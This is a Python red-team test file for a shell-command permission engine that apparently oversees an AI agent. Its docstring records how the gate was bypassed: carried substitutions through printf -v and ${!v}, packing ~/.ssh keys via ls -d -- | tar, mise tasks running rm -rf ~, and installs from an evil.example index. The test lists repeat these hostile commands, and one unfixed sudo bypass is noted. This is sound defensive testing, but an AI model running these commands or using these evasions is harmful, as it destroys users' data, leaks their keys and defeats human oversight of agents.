"""adv46b (stop 46, issue 8): a second-round adversary on stop 46's merged readings and relaxations.

Found and fixed:
1. comp46's carried substitution was lost through `printf -v`: `printf -v x '%s' "$(find ~ -type f)"; rm -f $x` was
   allowed (and emptied the home) while `x=$(find ~ -type f); rm -f $x` asks. `printf -v NAME FORMAT ARGS` now
   carries the substitutions among its arguments to NAME (shell.Analyzer._carry_printed), as an assignment does.
2. ... and through an indirection: `v=x; x=$(find ~ -type f); rm -f ${!v}` was allowed. `${!v}` now carries what the
   name v holds names, when known, else any carried substitution naming files outside the tree.
3. xf46's `ls -d NAME | tar -T -` reading stopped at `--`: `ls -d -- ~/.ssh/id_ed25519 | tar -cf k.tar -T -` packed
   the key, allowed. After `--` every word is a name.
4. xf46's mise file tasks were read for `mise run TASK` only: `mise b` (mise's shorthand for `mise run b` when b is
   no verb of its own) after writing mise-tasks/b ran it, allowed. mise's first operand is read as a task too
   (policies/executors.yaml, the mise row's runs).

Open at stop 46, fixed by env47 (tests/redteam/test_env47.py): env46's package sources named in a file the line
writes: `pip install -r req.txt x` of a written requirements file naming `--extra-index-url URL` (test_env46 holds
the `--index-url`/`git+` lines), and `uv sync` after a `[[tool.uv.index]]` default index appended to pyproject.toml,
were allowed while `pip install -i URL` asked.

Probed and held (no change): comp46's carriers through `${x:-…}`, `${x/a/b}`, array slices, `local`, `export` +
`bash -c`, `eval`, `IFS=`, a function's `$1`/`"$@"`, `read -d ''`, xargs, `<<<`, `set --`, `declare -n`, a link
made on the line, `find -L .`, `find ..`, `find ./../..`; env46's look-alike indexes (`pypi.org.evil`,
`pypi.org/simple@evil`, userinfo, upper case, a trailing dot) and pip.conf/.npmrc/`npm config set` registries; jq
`--arg` into `| sh`; `grep -rn '.ssh' ~`; yq's `-i` spellings and `--from-file` of a key; kubectl
`--dry-run=none`/`--dry-run=client --dry-run=none`/`$X`/`--`; dotenv's spellings; `hermes-engine call` through
`python -m engine`, env, an alias, a copy.
Noticed, not fixed: `sudo -h rm -rf ./evil.sh` is allowed (read as host rm, role f, command ./evil.sh; sudo's
real parse of `-rf` after `-h HOST` was not verified here).
"""

from __future__ import annotations

import tarfile
from pathlib import Path

import pytest

from engine import Engine
from tests.redteam.conftest import home_intact, judge
from tests.redteam.harm import SECRET, run_confined

# Each deletes the fake home's files under plain bash.
DELETES = {
    "printf -v": "printf -v x '%s' \"$(find ~ -type f)\"; rm -f $x",
    "printf -vNAME": "printf -vx '%s %s' a \"$(find ~ -type f)\"; rm -f $x",
    "indirection of a known name": "v=x; x=$(find ~ -type f); rm -f ${!v}",
}

PACKS = "ls -d -- ~/.ssh/id_ed25519 | tar -cf k.tar -T -"

PAYLOADS = [
    *DELETES.values(),
    "x=$(find ~ -type f); rm -f ${!v}",  # v unknown here: it may name x (fail closed)
    PACKS,
    "ls -d -- ~/.ssh/id_ed25519 | zip k.zip -@",
    "mkdir -p mise-tasks; printf 'rm -rf ~\\n' > mise-tasks/b; chmod +x mise-tasks/b; mise b",
    "printf 'rm -rf ~\\n' > .config/mise/tasks/b; mise b -v",
]

NEAR_MISSES = [
    "printf -v x '%s' \"$(find tests -name '*.pyc')\"; rm $x",
    "printf -v ts '%(%F)T' -1; echo \"$ts\"",
    "printf -v x '%s' \"$(git rev-parse HEAD)\"; echo $x",
    "printf -v line '%*s' 40 ''; echo \"${line// /-}\"",
    "x=$(find tests -name '*.pyc'); v=x; rm ${!v}",
    "v=HOME; echo ${!v}",
    'for n in PATH HOME; do echo "${!n}"; done',
    "x=$(git diff --name-only); echo ${!x*}",
    "ls -d -- src docs | tar -cf x.tar -T -",
    "ls -d -- */ | wc -l",
    "mise b",
    "mise install node@20",
    "mise use -g node@20",
    "mise run build",
    "mise ls",
]


@pytest.mark.parametrize("name", sorted(DELETES))
def test_carried_deletes_empty_the_home_live(tmp_path: Path, name: str) -> None:
    home, _, _ = run_confined(tmp_path, DELETES[name])
    assert not home_intact(home), name


def test_ls_d_dashdash_packs_the_key_live(tmp_path: Path) -> None:
    _, cwd, _ = run_confined(tmp_path, PACKS)
    with tarfile.open(cwd / "k.tar") as archive:
        member = archive.extractfile(next(m for m in archive.getmembers() if m.name.endswith("id_ed25519")))
        assert member is not None and SECRET in member.read().decode()


@pytest.mark.parametrize("command", PAYLOADS)
def test_payloads_are_not_allowed(engine: Engine, command: str) -> None:
    assert judge(engine, command).decision != "allow", command


@pytest.mark.parametrize("command", NEAR_MISSES)
def test_near_misses_stay_allowed(engine: Engine, command: str) -> None:
    assert judge(engine, command).decision == "allow", command


@pytest.mark.parametrize(
    ("carried", "inline"),
    [
        ("printf -v x '%s' \"$(find ~ -type f)\"; rm -f $x", "rm -f $(find ~ -type f)"),
        ("printf -v x '%s' \"$(find . -name '*.pyc')\"; rm -f $x", "rm -f $(find . -name '*.pyc')"),
        ("v=x; x=$(find ~ -type f); rm -f ${!v}", "rm -f $(find ~ -type f)"),
    ],
)
def test_carried_is_judged_as_the_inline_substitution(engine: Engine, carried: str, inline: str) -> None:
    assert judge(engine, carried).decision == judge(engine, inline).decision, (carried, inline)


OPEN_SOURCES = [
    "echo '--extra-index-url https://evil.example/simple' > req.txt && pip install -r req.txt x",
    "printf '[[tool.uv.index]]\\nurl = \"https://evil.example/simple\"\\ndefault = true\\n' >> pyproject.toml; uv sync",
]


@pytest.mark.parametrize("command", OPEN_SOURCES)
def test_package_sources_in_a_written_file_ask(engine: Engine, command: str) -> None:
    assert judge(engine, command).decision != "allow", command
